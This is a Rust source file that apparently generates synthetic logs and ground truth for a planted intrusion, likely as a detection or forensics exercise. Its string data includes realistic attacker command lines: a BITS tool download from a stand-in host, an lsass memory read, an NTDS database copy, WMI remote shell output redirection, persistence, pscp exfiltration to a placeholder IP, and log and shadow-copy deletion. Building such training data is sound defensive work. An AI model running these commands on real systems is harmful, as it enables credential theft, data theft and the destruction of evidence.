//! The planted intrusion, step by step, and what is true of it.
use super::emit::{Conn, Emit, Process, Session, Trace};
use super::life::{access, kerberos};
use super::time::{HOUR, MINUTE, SECOND, at, rfc3339, sysmon};
use super::truth::{Campaign, Step};
use super::world::{App, HM_DC, HM_FILE, HOSTS, JUMP, MSP_DC};

const LOGIN: &str = "203.0.113.77";
const TOOLS: &str = "203.0.113.140";
const CONTROL: &str = "198.51.100.23";
const DROP: &str = "198.51.100.61";
const NEWS: &str = "news.fjord-weather.example";
/// The client's workstation on which the loot is staged.
const STAGE: usize = 14;
const MS: &str = "Microsoft Corporation";
const TOOL_DIR: &str = r"C:\ProgramData\temp";
const WMI: &str = r"C:\Windows\System32\wbem\WmiPrvSE.exe";

struct Run<'a> {
    e: &'a mut Emit,
    steps: Vec<Step>,
    /// The intruder on the jump host, and at the client.
    jump: Vec<(i64, Session)>,
    client: Session,
    shell: Process,
    stolen: u64,
    seen: u64,
}

/// The campaign's truth, bytes that left, and bytes that the logs show.
pub(crate) fn plant(e: &mut Emit) -> (Campaign, u64, u64) {
    let client = Session { domain: "HALVARD".into(), user: "svc-meridian".into(), id: "0x51c0de".into() };
    let shell =
        e.process(JUMP, at(1, 22, 10, 5), r"C:\Windows\System32\cmd.exe", r#""C:\Windows\system32\cmd.exe""#);
    let mut r = Run { e, steps: Vec::new(), jump: Vec::new(), client, shell, stolen: 0, seen: 0 };
    r.all();
    let (stolen, seen) = (r.stolen, r.seen);
    let mut hosts: Vec<String> = r.steps.iter().flat_map(|s| s.hosts.clone()).collect();
    hosts.sort();
    hosts.dedup();
    let campaign = Campaign {
        id: "planted-1".into(),
        first: r.steps.iter().map(|s| s.first.clone()).min().unwrap_or_default(),
        last: r.steps.iter().map(|s| s.last.clone()).max().unwrap_or_default(),
        hosts,
        accounts: vec![r"HALVARD\svc-meridian".into(), r"MERIDIAN\adm-lindqvist".into()],
        steps: r.steps,
    };
    (campaign, stolen, seen)
}

fn app<'a>(
    image: &'a str,
    original: &'static str,
    description: &'static str,
    company: &'static str,
) -> Tool<'a> {
    Tool { image, original, description, company }
}

struct Tool<'a> {
    image: &'a str,
    original: &'static str,
    description: &'static str,
    company: &'static str,
}

impl Run<'_> {
    fn step(&mut self, id: &str, title: &str, technique: &str, client: bool, work: impl FnOnce(&mut Self)) {
        self.e.trace = Some(Trace::default());
        work(self);
        let Some(t) = self.e.trace.take() else { return };
        let account = if client { r"HALVARD\svc-meridian" } else { r"MERIDIAN\adm-lindqvist" };
        self.steps.push(Step {
            id: id.into(),
            title: title.into(),
            technique: technique.into(),
            first: rfc3339(t.first),
            last: rfc3339(t.last),
            hosts: t.hosts.into_iter().collect(),
            accounts: vec![account.into()],
            files: t.files.into_iter().collect(),
            traces: t.lines,
            markers: t.markers,
        });
    }

    /// Runs a tool from the intruder's shell and marks its command line.
    fn run(&mut self, h: usize, t: i64, tool: &Tool<'_>, cmd: &str) -> Process {
        let parent = self.shell.clone();
        self.child(h, t, tool, cmd, &parent)
    }

    fn child(&mut self, h: usize, t: i64, tool: &Tool<'_>, cmd: &str, parent: &Process) -> Process {
        let s = if h == JUMP { self.at_jump(t) } else { self.client.clone() };
        let a = App {
            image: tool.image,
            cmd: "",
            original: tool.original,
            description: tool.description,
            product: tool.description,
            company: tool.company,
        };
        self.e.mark(HOSTS[h].name, t, cmd);
        self.e.start(h, t, &a, cmd, parent, &s)
    }

    /// The session on the jump host that was opened last before `t`.
    fn at_jump(&self, t: i64) -> Session {
        let open = self.jump.iter().rev().find(|(from, _)| *from <= t);
        open.map_or_else(|| self.client.clone(), |(_, session)| session.clone())
    }

    fn all(&mut self) {
        self.enter();
        self.fetch();
        self.look_around();
        self.move_on();
        self.implant();
        self.take();
        self.clean();
    }

    fn enter(&mut self) {
        self.step("initial-rdp", "Logon by RDP from outside with a stolen account", "T1078", false, |r| {
            for day in [1, 2, 8, 9, 30] {
                let t = at(day, 22, 10, 0);
                let c = Conn {
                    from: LOGIN,
                    port: r.e.port(),
                    to: HOSTS[JUMP].ip,
                    to_port: 3389,
                    service: "rdp",
                    seconds: 5400,
                    sent: 1_900_000,
                    got: 21_000_000,
                };
                let (uid, _) = r.e.conn(0, t, &c);
                r.e.mark("MSP-JUMP01", t, &uid);
                kerberos(r.e, MSP_DC, JUMP, t + SECOND, "adm-lindqvist", "krbtgt");
                let s = r.e.logon(JUMP, t + 2 * SECOND, 10, "MERIDIAN", "adm-lindqvist", LOGIN);
                r.e.mark("MSP-JUMP01", t + 2 * SECOND, LOGIN);
                r.jump.push((t, s.clone()));
                r.e.subject(
                    JUMP,
                    t + 2 * SECOND,
                    4672,
                    "Special Logon",
                    &s,
                    &[("PrivilegeList", "SeBackupPrivilege SeDebugPrivilege SeRestorePrivilege")],
                );
            }
        });
    }

    fn fetch(&mut self) {
        self.step("bits-download", "Tools fetched with BITS", "T1197", false, |r| {
            let t = at(1, 22, 30, 0);
            let url = "/u/a.txt";
            r.run(JUMP, t, &app(r"C:\Windows\System32\bitsadmin.exe", "bitsadmin.exe", "BITS administration utility", MS), r"bitsadmin /transfer upd /download /priority normal http://cdn-update.example/u/a.txt C:\ProgramData\temp\a.txt");
            r.e.dns(0, t + SECOND, "cdn-update.example", TOOLS);
            let c = Conn { from: HOSTS[3].ip, port: r.e.port(), to: TOOLS, to_port: 80, service: "http", seconds: 6, sent: 480, got: 1_310_720 };
            let (uid, _) = r.e.conn(0, t + 2 * SECOND, &c);
            r.e.http(0, t + 2 * SECOND, &uid, &c, "cdn-update.example", url, "Microsoft BITS/7.7");
            r.e.proxy(t + 8 * SECOND, JUMP, "adm-lindqvist", "cdn-update.example", TOOLS, false, url, "Microsoft BITS/7.7", 1_310_720);
            let svc = r.e.process(JUMP, t, r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s BITS");
            r.e.file(JUMP, t + 9 * SECOND, &svc, r"C:\ProgramData\temp\a.txt");
        });
        self.step("certutil-decode", "Tool decoded with certutil", "T1140", false, |r| {
            let t = at(1, 22, 34, 0);
            let p = r.run(
                JUMP,
                t,
                &app(r"C:\Windows\System32\certutil.exe", "CertUtil.exe", "CertUtil.exe", MS),
                r"certutil -decode C:\ProgramData\temp\a.txt C:\ProgramData\temp\mmc-upd.exe",
            );
            r.e.file(JUMP, t + SECOND, &p, r"C:\ProgramData\temp\mmc-upd.exe");
        });
    }

    fn look_around(&mut self) {
        self.step("discovery", "Questions about domain and groups", "T1482", false, |r| {
            let list = [
                ("nltest.exe", "nltest /domain_trusts"),
                ("net.exe", r#"net group "Domain Admins" /domain"#),
                ("whoami.exe", "whoami /all"),
                ("net.exe", "net view /domain"),
                ("quser.exe", "quser"),
            ];
            for (i, (exe, cmd)) in list.into_iter().enumerate() {
                let image = format!(r"C:\Windows\System32\{exe}");
                r.run(JUMP, at(1, 22, 40, 20 * i as i64), &app(&image, exe, exe, MS), cmd);
            }
        });
        self.step("tcping-scan", "Ports tried with a renamed tcping", "T1046", false, |r| {
            for (i, h) in (8..20).enumerate() {
                let (t, ip) = (at(2, 23, 0, 3 * i as i64), HOSTS[h].ip);
                let p = r.run(
                    JUMP,
                    t,
                    &app(r"C:\ProgramData\temp\rd.exe", "tcping.exe", "tcping", "-"),
                    &format!("rd.exe -n 1 {ip} 445"),
                );
                let c = Conn {
                    from: HOSTS[JUMP].ip,
                    port: r.e.port(),
                    to: ip,
                    to_port: 445,
                    service: "-",
                    seconds: 0,
                    sent: 0,
                    got: 0,
                };
                r.e.network(JUMP, t + 100_000, &p, r"MERIDIAN\adm-lindqvist", &c, HOSTS[h].name);
                r.e.conn(0, t + 100_000, &c);
                r.e.conn(1, t + 101_000, &c);
            }
        });
        self.step("credential-dump", "Memory of lsass read by a side-loaded library", "T1003.001", false, |r| {
            let t = at(2, 23, 20, 0);
            let p = r.run(JUMP, t, &app(r"C:\ProgramData\temp\vmtoolsd-cli.exe", "vmtoolsd-cli.exe", "Guest tools client", "Hypervisor Vendor"), "vmtoolsd-cli.exe");
            r.e.load(JUMP, t + 50_000, &p, r"C:\ProgramData\temp\vmtools.dll", "-");
            let (utc, pid) = (sysmon(t + SECOND), p.pid.to_string());
            let lsass = r.e.process(JUMP, t, r"C:\Windows\System32\lsass.exe", "");
            access(r.e, JUMP, t + SECOND, &[("UtcTime", &utc), ("SourceProcessGUID", &p.guid), ("SourceProcessId", &pid), ("SourceThreadId", "4100"), ("SourceImage", &p.image), ("TargetProcessGUID", &lsass.guid), ("TargetProcessId", "604"), ("TargetImage", &lsass.image), ("GrantedAccess", "0x1410"), ("CallTrace", r"C:\Windows\SYSTEM32\ntdll.dll+a5314|C:\Windows\System32\KERNELBASE.dll+2940d|UNKNOWN(00000000021B2B9D)")]);
            r.e.file(JUMP, t + 3 * SECOND, &p, r"C:\ProgramData\temp\res.txt");
        });
    }

    fn move_on(&mut self) {
        self.step("client-rdp", "From the provider to the client by RDP", "T1021.001", true, |r| {
            let t = at(8, 22, 30, 0);
            r.run(
                JUMP,
                t,
                &app(r"C:\Windows\System32\mstsc.exe", "mstsc.exe", "Remote Desktop Connection", MS),
                "mstsc.exe /v:hm-file01",
            );
            let s = r.at_jump(t);
            r.e.subject(
                JUMP,
                t + SECOND,
                4648,
                "Logon",
                &s,
                &[
                    ("LogonGuid", "{00000000-0000-0000-0000-000000000000}"),
                    ("TargetUserName", "svc-meridian"),
                    ("TargetDomainName", "HALVARD"),
                    ("TargetLogonGuid", "{00000000-0000-0000-0000-000000000000}"),
                    ("TargetServerName", "hm-file01"),
                    ("TargetInfo", "TERMSRV/hm-file01"),
                    ("ProcessId", "0x1a4c"),
                    ("ProcessName", r"C:\Windows\System32\lsass.exe"),
                    ("IpAddress", "-"),
                    ("IpPort", "-"),
                ],
            );
            let c = Conn {
                from: HOSTS[JUMP].ip,
                port: r.e.port(),
                to: HOSTS[HM_FILE].ip,
                to_port: 3389,
                service: "rdp",
                seconds: 3600,
                sent: 900_000,
                got: 9_000_000,
            };
            r.e.conn(0, t + 2 * SECOND, &c);
            r.e.conn(1, t + 2 * SECOND + 900, &c);
            r.client = r.e.logon(HM_FILE, t + 3 * SECOND, 10, "HALVARD", "svc-meridian", HOSTS[JUMP].ip);
        });
        self.step("wmiexec", "Commands through WMI on the client's hosts", "T1047", true, |r| {
            for (i, h) in [HM_DC, STAGE, 15].into_iter().enumerate() {
                let t = at(9, 22, 20 + 2 * i as i64, 0);
                r.e.logon(h, t, 3, "HALVARD", "svc-meridian", HOSTS[JUMP].ip);
                r.wmi(h, t + SECOND, "whoami", "1490");
            }
        });
        self.step("ntds-copy", "Directory database copied from a shadow copy", "T1003.003", true, |r| {
            let t = at(9, 22, 40, 0);
            let cmd = r.wmi(HM_DC, t, "vssadmin create shadow /for=C:", "1491");
            r.child(HM_DC, t + SECOND, &app(r"C:\Windows\System32\vssadmin.exe", "VSSADMIN.EXE", "Command Line Interface for Microsoft Volume Shadow Copy Service", MS), "vssadmin create shadow /for=C:", &cmd);
            let p = r.wmi(HM_DC, t + 40 * SECOND, r"copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\ntds.dit C:\ProgramData\temp\n.dit", "1492");
            r.e.file(HM_DC, t + 45 * SECOND, &p, r"C:\ProgramData\temp\n.dit");
        });
        self.step("persistence", "Scheduled task and Run key", "T1053.005", true, |r| {
            let t = at(9, 23, 0, 0);
            r.run(HM_FILE, t, &app(r"C:\Windows\System32\schtasks.exe", "schtasks.exe", "Task Scheduler Configuration Tool", MS), r"schtasks /create /sc minute /mo 30 /tn GfxUpdate /tr C:\ProgramData\temp\mmc-upd.exe /ru SYSTEM");
            let s = r.client.clone();
            r.e.subject(HM_FILE, t + SECOND, 4698, "Other Object Access Events", &s, &[("TaskName", r"\GfxUpdate"), ("TaskContent", r#"<Task version="1.2"><Actions><Exec><Command>C:\ProgramData\temp\mmc-upd.exe</Command></Exec></Actions></Task>"#)]);
            let reg = r.e.process(HM_FILE, t, r"C:\Windows\System32\reg.exe", "reg");
            r.e.sysmon(HM_FILE, t + 20 * SECOND, 13, "Registry value set (rule: RegistryEvent)", &reg, &[("RuleName", "-"), ("EventType", "SetValue"), ("TargetObject", r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\igfxtray"), ("Details", r"C:\ProgramData\Intel\igfxtray.exe")]);
        });
    }

    /// The pattern of a remote shell over WMI: output goes to a file on the local admin share.
    fn wmi(&mut self, h: usize, t: i64, command: &str, number: &str) -> Process {
        let parent = self.e.process(h, t, WMI, r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding");
        let cmd = format!(r"cmd.exe /Q /c {command} 1> \\127.0.0.1\ADMIN$\__{number}000000.11 2>&1");
        self.child(
            h,
            t,
            &app(r"C:\Windows\System32\cmd.exe", "Cmd.Exe", "Windows Command Processor", MS),
            &cmd,
            &parent,
        )
    }

    fn implant(&mut self) {
        let mut running = Vec::new();
        self.step("implant", "Unsigned implant under a driver's name", "T1036.005", false, |r| {
            for (h, t) in [(JUMP, at(3, 1, 0, 0)), (HM_FILE, at(10, 1, 0, 0))] {
                let p = r.run(
                    h,
                    t,
                    &app(r"C:\ProgramData\Intel\igfxtray.exe", "-", "-", "-"),
                    r"C:\ProgramData\Intel\igfxtray.exe",
                );
                r.e.load(h, t + 10_000, &p, r"C:\ProgramData\Intel\igfxtray.exe", "-");
                r.e.query(h, t + SECOND, &p, NEWS, CONTROL);
                running.push((h, t, p));
            }
        });
        self.step("beacon", "Regular connections to the control server", "T1071.001", false, |r| {
            r.e.mark("MSP-JUMP01", at(3, 1, 0, 0), NEWS);
            for (h, start, p) in running {
                let (mut t, mut n, sensor) = (start + 2 * SECOND, 0, usize::from(h >= 8));
                while t < start + 7 * 24 * HOUR {
                    let sent = 420 + r.e.rng.below(60);
                    let c = Conn {
                        from: HOSTS[h].ip,
                        port: r.e.port(),
                        to: CONTROL,
                        to_port: 443,
                        service: "ssl",
                        seconds: 1,
                        sent,
                        got: 1180,
                    };
                    if n % 12 == 0 {
                        r.e.dns(sensor, t - 200_000, NEWS, CONTROL);
                        r.e.network(h, t, &p, r"NT AUTHORITY\SYSTEM", &c, NEWS);
                    }
                    let (uid, _) = r.e.conn(sensor, t, &c);
                    r.e.ssl(sensor, t + 30_000, &uid, &c, NEWS, &format!("CN={NEWS}"));
                    n += 1;
                    t += 300 * SECOND + r.e.rng.range(-30 * SECOND, 30 * SECOND);
                }
            }
        });
    }

    fn take(&mut self) {
        self.step("share-mount", "Client's share mounted", "T1021.002", true, |r| {
            let t = at(32, 22, 0, 0);
            r.run(
                STAGE,
                t,
                &app(r"C:\Windows\System32\net.exe", "net.exe", "Net Command", MS),
                r"net use Z: \\HM-FILE01\Projects /user:HALVARD\svc-meridian",
            );
            let s = r.e.logon(HM_FILE, t + SECOND, 3, "HALVARD", "svc-meridian", HOSTS[STAGE].ip);
            r.e.subject(
                HM_FILE,
                t + 2 * SECOND,
                5140,
                "File Share",
                &s,
                &[
                    ("ObjectType", "File"),
                    ("IpAddress", HOSTS[STAGE].ip),
                    ("IpPort", "50122"),
                    ("ShareName", r"\\*\Projects"),
                    ("ShareLocalPath", r"\??\D:\Shares\Projects"),
                    ("AccessMask", "0x1"),
                    ("AccessList", "%%4416"),
                ],
            );
        });
        self.step("robocopy-staging", "Drawings gathered in the recycle bin", "T1074.001", true, |r| {
            let t = at(32, 22, 10, 0);
            let p = r.run(
                STAGE,
                t,
                &app(r"C:\Windows\System32\Robocopy.exe", "robocopy.exe", "Microsoft Robocopy", MS),
                r"robocopy Z:\Hulls C:\$Recycle.Bin\st *.dwg *.pdf /S /R:0 /W:0",
            );
            for i in 0..12 {
                r.e.file(
                    STAGE,
                    t + (i + 1) * SECOND,
                    &p,
                    &format!(r"C:\$Recycle.Bin\st\hull-{}.dwg", 100 + i),
                );
            }
        });
        self.step("rar-archive", "Packed with a renamed RAR in parts, encrypted", "T1560.001", true, |r| {
            let t = at(33, 21, 0, 0);
            let p = r.run(
                STAGE,
                t,
                &app(r"C:\$Recycle.Bin\r.exe", "Rar.exe", "Command line RAR", "Alexander Roshal"),
                r"r.exe a -r -v200m -hpW1nter C:\$Recycle.Bin\hm.rar C:\$Recycle.Bin\st",
            );
            for i in 1..=6 {
                r.e.file(STAGE, t + i * MINUTE, &p, &format!(r"C:\$Recycle.Bin\hm.part{i:02}.rar"));
            }
        });
        self.step("pscp-exfil", "Archives sent out by pscp under a system program's name", "T1048.002", true, |r| {
            // The second night's transfer falls into the sensor's gap.
            for (i, day) in [(1, 33), (2, 33), (3, 34), (4, 35), (5, 35), (6, 35)] {
                let t = at(day, 22, 10 * i, 0);
                let p = r.run(STAGE, t, &app(r"C:\ProgramData\temp\csrss.exe", "pscp.exe", "Command-line SCP/SFTP client", "PuTTY"), &format!(r"csrss.exe -P 443 -pw W1nter C:\$Recycle.Bin\hm.part{i:02}.rar up@198.51.100.61:/in/"));
                let sent = 209_715_200 + r.e.rng.below(900_000);
                let c = Conn { from: HOSTS[STAGE].ip, port: r.e.port(), to: DROP, to_port: 443, service: "ssh", seconds: 420, sent, got: 310_000 };
                r.e.network(STAGE, t + SECOND, &p, r"HALVARD\svc-meridian", &c, DROP);
                let (_, seen) = r.e.conn(1, t + SECOND, &c);
                r.stolen += sent;
                r.seen += if seen { sent } else { 0 };
            }
        });
    }

    fn clean(&mut self) {
        self.step("cleanup", "Log cleared, files and shadow copies deleted", "T1070.001", false, |r| {
            let t = at(36, 22, 0, 0);
            r.run(
                JUMP,
                t,
                &app(r"C:\Windows\System32\cmd.exe", "Cmd.Exe", "Windows Command Processor", MS),
                &format!(r"cmd.exe /c del /q {TOOL_DIR}\*.*"),
            );
            r.run(
                JUMP,
                t + 20 * SECOND,
                &app(
                    r"C:\Windows\System32\vssadmin.exe",
                    "VSSADMIN.EXE",
                    "Command Line Interface for Microsoft Volume Shadow Copy Service",
                    MS,
                ),
                "vssadmin delete shadows /all /quiet",
            );
            r.run(
                JUMP,
                t + 40 * SECOND,
                &app(
                    r"C:\Windows\System32\wevtutil.exe",
                    "wevtutil.exe",
                    "Eventing Command Line Utility",
                    MS,
                ),
                "wevtutil cl Security",
            );
            let s = r.at_jump(t);
            r.e.subject(JUMP, t + 41 * SECOND, 1102, "Log clear", &s, &[]);
        });
    }
}
